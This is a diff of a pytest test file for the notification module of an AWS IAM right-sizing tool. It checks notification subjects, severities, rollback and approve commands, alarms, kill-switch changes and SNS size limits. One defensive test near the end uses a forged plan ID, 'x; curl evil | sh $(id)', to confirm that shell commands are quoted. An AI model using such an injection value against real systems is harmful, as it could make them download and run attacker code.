@@ -2,36 +2,44 @@
 
 import json
 import re
+import shlex
 import unicodedata
 from datetime import timedelta
 
 import pytest
-from hypothesis import given
+from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from services.auditor.notifications import MAX_SUBJECT, notification_of
-from shared.events import DomainEvent, RemediationFailed
-from shared.model.audit import Notification
+from services.auditor.telling.news import notification_of
+from services.auditor.telling.operations import readable
+from services.auditor.telling.place import Place
+from shared.events import DomainEvent, IdentityEvent, RemediationFailed, ServiceChange
 from shared.model.identity import IdentityRef
-from shared.model.plan import Compliance, Mode, ReasonCode, RegretResponse
+from shared.model.notification import MAX_MESSAGE_BYTES, MAX_SUBJECT, Notification
+from shared.model.plan import Compliance, Mode, ReasonCode, RegretResponse, Strategy
 from tests.builders import ACCOUNT, ANA, NOW, PLAN, every_event
 
+PLACE = Place("leastwise", "eu-west-1", "/leastwise/mode", "/leastwise/safeguards")
 EVENTS = {event.type_name(): event for event in every_event()}
+CHAIN = f"{ACCOUNT}/{ANA.identity_id}"
 SEVERITY_AND_SUBJECT = {
-    "IdentityEvaluated": ("warning", "NON_COMPLIANT: user ana, PCI 87"),
-    "PlanProposed": ("info", "Waiting for approval: 212 permissions of ana"),
-    "PolicyApplied": ("info", "Right-sized: user ana, PCI 12"),
-    "PolicyRolledBack": ("warning", "Rolled back: ana has its permissions again"),
-    "RemediationFailed": ("critical", "A person must look: plan of ana failed"),
+    "IdentityEvaluated": ("warning", "NON_COMPLIANT: user ana, PCI 87 of 100"),
+    "PlanProposed": ("info", "Waiting for approval: take 212 unused permissions from user ana"),
+    "PolicyApplied": ("info", "Right-sized: user ana, 212 unused permissions taken, PCI 87 to 12"),
+    "PolicyRolledBack": ("warning", "Rolled back: user ana has its permissions again"),
+    "RemediationFailed": ("critical", "A person must look: the change of user ana failed half way"),
     "AccessRegretted": ("warning", "Refused after right-sizing: user ana, s3:GetObject"),
     "AccessRestored": ("info", "Given back: user ana may use s3:GetObject, kms:Decrypt again"),
-    "ExemptionExpired": ("warning", "Exemption ended: user ana"),
+    "ExemptionExpired": ("warning", "Exemption ended: user ana, changed from 2026-03-08 on unless renewed"),
+    "AlarmChanged": ("critical", "Alarm: usage dead letters"),
+    "ControlChanged": ("critical", "Kill switch: remediation is off, set by assumed-role/on-call/bob"),
+    "AuditTrailBroken": ("critical", f"Audit trail broken: chain {CHAIN}, entry 17"),
 }
-SUBJECT = re.compile(r"[\x21-\x7e][\x20-\x7e]{0,99}")  # SNS: ASCII, no control characters, at most 100
+SUBJECT = re.compile(r"[\x21-\x7e][\x20-\x7e]{0,98}")  # SNS: ASCII, no control characters, less than 100
 
 
-def told(event: DomainEvent) -> Notification:
-    notification = notification_of(event, stack_name="leastwise")
+def told(event: DomainEvent, place: Place = PLACE) -> Notification:
+    notification = notification_of(event, place)
     assert notification is not None
     return notification
 
@@ -39,20 +47,21 @@ def told(event: DomainEvent) -> Notification:
 @pytest.mark.parametrize("name", sorted(SEVERITY_AND_SUBJECT))
 def test_what_matters_is_told_with_its_severity_and_a_subject_for_people(name: str) -> None:
     severity, subject = SEVERITY_AND_SUBJECT[name]
-    notification = told(EVENTS[name])
+    event, notification = EVENTS[name], told(EVENTS[name])
     assert notification.subject == subject
-    assert notification.attributes == {
-        "type": name,
-        "account": ACCOUNT,
-        "severity": severity,
-        "identity_type": "user",
-    }
-    assert ANA.arn in notification.text
+    expected = {"type": name, "account": ACCOUNT, "severity": severity}
+    if isinstance(event, IdentityEvent):
+        expected["identity_type"] = "user"
+        assert f"Who: {ANA.arn}" in notification.text
+    assert notification.attributes == expected
+    assert notification.severity == severity
+    assert notification.text.startswith(f"{subject}\n\n")
+    assert event.event_id in notification.text
 
 
 @pytest.mark.parametrize("name", sorted(set(EVENTS) - set(SEVERITY_AND_SUBJECT)))
 def test_scores_requests_and_skips_are_no_news(name: str) -> None:
-    assert notification_of(EVENTS[name], stack_name="leastwise") is None
+    assert notification_of(EVENTS[name], PLACE) is None
 
 
 @pytest.mark.parametrize(
@@ -63,37 +72,58 @@ def test_scores_requests_and_skips_are_no_news(name: str) -> None:
         ("IdentityEvaluated", {"repeated": True}),
         ("PlanProposed", {"mode": Mode.OBSERVE}),
         ("PlanProposed", {"mode": Mode.AUTO}),
+        ("AlarmChanged", {"state": "OK", "previous": "INSUFFICIENT_DATA"}),
+        ("AlarmChanged", {"state": "INSUFFICIENT_DATA", "previous": "OK"}),
     ],
 )
 def test_good_standing_and_unattended_news_are_none(name: str, change: dict[str, object]) -> None:
-    assert notification_of(EVENTS[name].model_copy(update=change), stack_name="leastwise") is None
+    assert notification_of(EVENTS[name].model_copy(update=change), PLACE) is None
 
 
 def test_a_change_is_told_with_what_why_effect_and_how_to_undo_it() -> None:
     text = told(EVENTS["PolicyApplied"]).text
     for part in (
-        "took 212 unused permissions away, kept 18 (boundary)",
-        "iam:PutUserPolicy",
-        "PCI 87 to 12",
-        f"arn:aws:iam::{ACCOUNT}:policy/leastwise/p",
-        "Undo: leastwise plan rollback plan-1 --stack-name leastwise",
+        "What: 212 permissions were taken, 18 kept, by a permissions boundary\n",
+        "Worst of what was taken: iam:PutUserPolicy\n",
+        "Effect: Privilege Creep Index 87 to 12",
+        "  s3: 118 of 130 taken, 12 kept\n  iam: 94 of 100 taken, 6 kept\n",
+        f"Policies in force: arn:aws:iam::{ACCOUNT}:policy/leastwise/p\n",
+        "Undo it, which gives everything back as it was:\n  leastwise plan rollback plan-1 --region eu-west-1\n",
     ):
         assert part in text
 
 
+def test_an_event_of_a_version_without_services_is_told_without_them() -> None:
+    assert "By service" not in told(EVENTS["PolicyApplied"].model_copy(update={"by_service": ()})).text
+
+
 def test_a_waiting_plan_is_told_with_how_to_approve_it_and_until_when() -> None:
     text = told(EVENTS["PlanProposed"]).text
-    assert "leastwise plan approve plan-1 --stack-name leastwise" in text
-    assert "good until 2026-03-01 13:00 UTC" in text
+    assert "Approve it:\n  leastwise plan approve plan-1 --region eu-west-1\n" in text
+    assert "AWS Config, Rules, leastwise-privilege-creep, choose the AWS::IAM::User, Remediate" in text
+    assert "can be approved until 2026-03-01 13:00 UTC" in text
+    assert "  s3: 118 of 130 taken, 12 kept\n" in text
+
+
+def test_a_plan_for_code_asks_for_no_approval_that_would_change_nothing() -> None:
+    notification = told(EVENTS["PlanProposed"].model_copy(update={"strategy": Strategy.PATCH}))
+    assert notification.subject == "Waiting for a change in code: 212 unused permissions of user ana"
+    assert "plan show plan-1 --terraform" in notification.text
+    assert "approve" not in notification.text
+
+
+def test_commands_name_the_stack_where_it_is_not_the_usual_one() -> None:
+    text = told(EVENTS["PolicyApplied"], PLACE._replace(stack_name="lw-prod")).text
+    assert "  leastwise plan rollback plan-1 --stack-name lw-prod --region eu-west-1\n" in text
 
 
 def test_a_plan_that_will_be_applied_is_told_with_when_and_how_to_stop_it() -> None:
     event = EVENTS["PlanProposed"].model_copy(update={"mode": Mode.AUTO, "applies_from": NOW + timedelta(days=3)})
     notification = told(event)
     assert notification.attributes["severity"] == "warning"
-    assert notification.subject == "Notice: 212 permissions of ana will be taken"
-    assert "from 2026-03-04 12:00 UTC on" in notification.text
-    assert "Stop it:\n  leastwise plan reject plan-1 --stack-name leastwise" in notification.text
+    subject = "Notice: 212 unused permissions of user ana will be taken from 2026-03-04 12:00 UTC on"
+    assert notification.subject == subject
+    assert "leastwise plan reject plan-1" in notification.text
 
 
 @pytest.mark.parametrize(
@@ -111,10 +141,10 @@ def test_a_regret_is_told_with_what_was_refused_what_comes_of_it_and_how_to_give
     assert notification.attributes["severity"] == severity
     for part in (
         "it wanted s3:GetObject and lacks s3:GetObject, kms:Decrypt",
-        "refused at 2026-03-01 11:57 UTC or after, changed at 2026-02-27 12:00 UTC by plan plan-1",
+        "refused at 2026-03-01 11:57 UTC or after, changed at 2026-02-27 12:00 UTC",
         what_comes,
-        "leastwise plan restore plan-1 --action s3:GetObject --action kms:Decrypt --stack-name leastwise",
-        "leastwise plan rollback plan-1 --stack-name leastwise",
+        "leastwise plan restore plan-1 --action s3:GetObject --action kms:Decrypt --region eu-west-1",
+        "leastwise plan rollback plan-1 --region eu-west-1",
     ):
         assert part in notification.text
 
@@ -132,8 +162,77 @@ def test_the_end_of_an_exemption_is_told_with_its_owner_and_what_comes() -> None
 
 def test_that_a_person_rejected_a_plan_is_told_to_the_others() -> None:
     event = EVENTS["RemediationSkipped"].model_copy(update={"code": ReasonCode.REJECTED, "plan_id": "plan-1"})
-    assert told(event).subject == "Rejected: nothing is taken from ana"
-    assert "Plan: plan-1" in told(event).text
+    assert told(event).subject == "Rejected: nothing is taken from user ana"
+    assert "plan plan-1 will not be applied" in told(event).text
+
+
+def test_an_alarm_is_told_with_its_own_advice_and_that_it_is_over() -> None:
+    alarm = EVENTS["AlarmChanged"]
+    assert "Set the mode to observe." in told(alarm).text
+    over = told(alarm.model_copy(update={"state": "OK", "previous": "ALARM"}))
+    assert (over.subject, over.severity) == ("Alarm over: usage dead letters", "info")
+    unknown = told(alarm.model_copy(update={"state": "INSUFFICIENT_DATA", "previous": "ALARM"}))
+    assert unknown.subject == "Alarm without data: usage dead letters"
+
+
+@pytest.mark.parametrize(
+    ("alarm", "words"),
+    [
+        ("leastwise/usage-dead-letters", "usage dead letters"),
+        ("leastwise/", ""),
+        ("leastwise-prod/usage-errors", "leastwise prod/usage errors"),
+    ],
+)
+def test_an_alarm_is_called_by_what_it_is_about(alarm: str, words: str) -> None:
+    assert readable(alarm, PLACE) == words
+
+
+@pytest.mark.parametrize(
+    ("mode", "severity", "subject", "means"),
+    [
+        (Mode.OFF, "critical", "Kill switch: remediation is off", "given back or taken back any more"),
+        (None, "critical", "Mode unreadable: remediation has stopped", "holds no mode, which counts as off"),
+        (Mode.OBSERVE, "warning", "Mode set to observe", "nothing is changed"),
+        (Mode.AUTO, "warning", "Mode set to auto", "applied by themselves"),
+    ],
+)
+def test_who_set_the_mode_is_told_with_what_it_means_and_how_to_set_it_back(
+    mode: Mode | None, severity: str, subject: str, means: str
+) -> None:
+    notification = told(EVENTS["ControlChanged"].model_copy(update={"mode": mode}))
+    assert notification.subject.startswith(subject)
+    assert notification.severity == severity
+    for part in (
+        means,
+        f"Who set it: arn:aws:sts::{ACCOUNT}:assumed-role/on-call/bob",
+        "aws ssm put-parameter --name /leastwise/mode --value MODE",
+        "aws ssm get-parameter-history --name /leastwise/mode --region eu-west-1",
+    ):
+        assert part in notification.text
+
+
+def test_that_the_safeguards_were_changed_is_told() -> None:
+    notification = told(EVENTS["ControlChanged"].model_copy(update={"control": "safeguards", "mode": None}))
+    assert notification.subject == "Safeguards changed by assumed-role/on-call/bob"
+    assert "aws ssm get-parameter-history --name /leastwise/safeguards --region eu-west-1" in notification.text
+
+
+def test_a_broken_trail_is_told_with_the_entry_and_how_to_verify_it() -> None:
+    text = told(EVENTS["AuditTrailBroken"]).text
+    assert f"chain {CHAIN}, entry 17, found to be edited" in text
+    assert "leastwise audit verify --region eu-west-1" in text
+
+
+@pytest.mark.parametrize(
+    ("chain", "sequence", "where"),
+    [
+        (f"{ACCOUNT}/anchors", 12, f"the anchors of {ACCOUNT}, anchor 12"),
+        (f"{ACCOUNT}/account", None, f"chain {ACCOUNT}/account"),
+    ],
+)
+def test_where_a_trail_is_broken_is_named(chain: str, sequence: int | None, where: str) -> None:
+    notification = told(EVENTS["AuditTrailBroken"].model_copy(update={"chain": chain, "sequence": sequence}))
+    assert notification.subject == f"Audit trail broken: {where}"
 
 
 def test_people_get_text_and_machines_the_whole_event() -> None:
@@ -173,9 +272,10 @@ def test_control_and_direction_characters_from_outside_are_made_visible() -> Non
 
 def test_a_name_with_control_characters_does_not_break_the_subject() -> None:
     notification = told(failed("x", name="a\x00\u202eb\u00fc"))
-    assert notification.subject == "A person must look: plan of a??b? failed"
+    assert notification.subject == "A person must look: the change of user a??b? failed half way"
 
 
+@settings(deadline=None)
 @given(st.text(st.characters(exclude_characters="\n", exclude_categories=["Cs"]), min_size=1, max_size=200), st.text())
 def test_whatever_a_name_or_a_message_holds_the_limits_of_sns_are_kept(name: str, message: str) -> None:
     notification = told(failed(message, name=name.replace("/", "-")))
@@ -187,3 +287,25 @@ def test_whatever_a_name_or_a_message_holds_the_limits_of_sns_are_kept(name: str
 def test_a_long_subject_is_cut_and_says_so() -> None:
     subject = told(failed("x", name="n" * 128)).subject
     assert (len(subject), subject[-4:]) == (MAX_SUBJECT, "n...")
+
+
+def test_what_would_run_in_a_shell_is_quoted() -> None:
+    forged = EVENTS["PolicyApplied"].model_copy(update={"plan_id": "x; curl evil | sh $(id)"})
+    (line,) = (line for line in told(forged).text.splitlines() if "rollback" in line)
+    assert shlex.split(line) == ["leastwise", "plan", "rollback", "x; curl evil | sh $(id)", "--region", "eu-west-1"]
+
+
+@settings(deadline=None, max_examples=40)
+@given(st.text(st.characters(exclude_categories=["Cs"]), min_size=1, max_size=20), st.integers(0, 60_000))
+def test_a_message_always_fits_into_sns(piece: str, times: int) -> None:
+    notification = told(failed((piece * times)[:250_000]))
+    structure = notification.message_structure()
+    assert len(structure.encode()) <= MAX_MESSAGE_BYTES
+    machine = json.loads(json.loads(structure)["default"])
+    assert ("event" in machine) != ("left_out" in machine)
+
+
+def test_an_event_with_very_many_services_lists_ten() -> None:
+    services = tuple(ServiceChange(service=f"s{number:03}", removes=1, keeps=0) for number in range(400))
+    text = told(EVENTS["PolicyApplied"].model_copy(update={"by_service": services})).text
+    assert text.count(" of 1 taken, 0 kept") == 10
